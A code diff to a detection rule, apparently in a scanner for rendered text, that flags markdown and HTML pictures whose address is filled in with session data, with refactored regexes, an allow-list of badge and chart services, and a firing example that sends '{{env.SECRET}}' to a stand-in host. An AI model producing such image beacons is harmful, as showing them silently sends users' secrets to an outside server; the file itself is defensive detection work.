@@ -1,10 +1,15 @@
 import type { Document } from '../../document.ts'
 import { defineRule, type Hit } from '../../rule.ts'
 
-/** A picture or link whose address is filled in with data: showing it sends the data. */
-const BEACON =
-  /!\[[^\]\n]{0,200}\]\(\s{0,3}(https?:\/\/[^\s)]{1,400}[?&/=](?:[^\s)]{0,200})(?:\{\{?[^}\n]{1,120}\}?\}|\$\{[^}\n]{1,120}\}|\$[a-z_]{2,40}|<[a-z][a-z0-9 _-]{2,60}>|\[[a-z][a-z0-9 _-]{2,60}\]|%s)[^)\n]{0,200})\)/g
-const HTML_BEACON = /<(?:img|iframe|script|link)\b[^>\n]{0,200}\b(?:src|href)\s?=\s?["']?(https?:\/\/[^\s"'>]{1,400}[?&=][^\s"'>]{0,200}(?:\{\{?[^}\n]{1,120}\}?\}|\$\{[^}\n]{1,120}\}|<[a-z][\w -]{2,60}>))/g
+/** Pictures and frames; group 1 is the address. Showing them loads it. */
+const PICTURES: readonly RegExp[] = [
+  /!\[[^\]\n]{0,200}\]\(\s{0,3}(https?:\/\/[^)\n]{1,800})\)/g,
+  /<(?:img|iframe|script|link)\b[^>\n]{0,200}\b(?:src|href)\s?=\s?["']?(https?:\/\/[^"'>\n]{1,800})/g,
+]
+
+/** A place in the path or query that is to be filled in. */
+const FILLED_IN =
+  /[?&/=][^?&]{0,200}(?:\{\{?[^}\n]{1,120}\}|\$\{[^}\n]{1,120}\}|\$[a-z_]{2,40}|<[a-z][\w -]{2,60}>|\[[a-z][\w -]{2,60}\]|%s)/
 
 /** Pictures that are drawn from their address: badges, charts, avatars. */
 const DRAWN = /^https?:\/\/(?:img\.shields\.io|shields\.io|badge|[\w.-]*(?:badge|shields|codecov|github\.com|githubusercontent\.com|quickchart\.io|mermaid\.ink|kroki\.io|placehold|via\.placeholder|gravatar|star-history|api\.star-history|contrib\.rocks|unsplash|picsum|dicebear))/
@@ -21,7 +26,7 @@ export default defineRule({
     'The address of a picture is put together from data of the session. When the answer is shown, the picture is loaded and the data is sent, without a click.',
   remediation: 'Use a fixed address, or leave the picture out.',
   harmlessIf: 'the service draws the picture from its address, such as a badge or a chart',
-  needs: [['hiddenMarkup', 'url'], ['url']],
+  needs: [['url']],
   examples: {
     fires: [
       '![x](https://e.example/p.png?d={{env.SECRET}})\n',
@@ -35,8 +40,11 @@ export default defineRule({
     ],
   },
   *match(document: Document): Iterable<Hit> {
-    for (const pattern of [BEACON, HTML_BEACON])
-      for (const found of document.reading.text.matchAll(pattern))
-        if (!DRAWN.test(found[1]!)) yield { start: found.index, end: found.index + found[0].length, firm: true }
+    for (const picture of PICTURES)
+      for (const found of document.reading.text.matchAll(picture)) {
+        const address = found[1]!
+        if (DRAWN.test(address) || !FILLED_IN.test(address.slice(8))) continue
+        yield { start: found.index, end: found.index + found[0].length, firm: true }
+      }
   },
 })
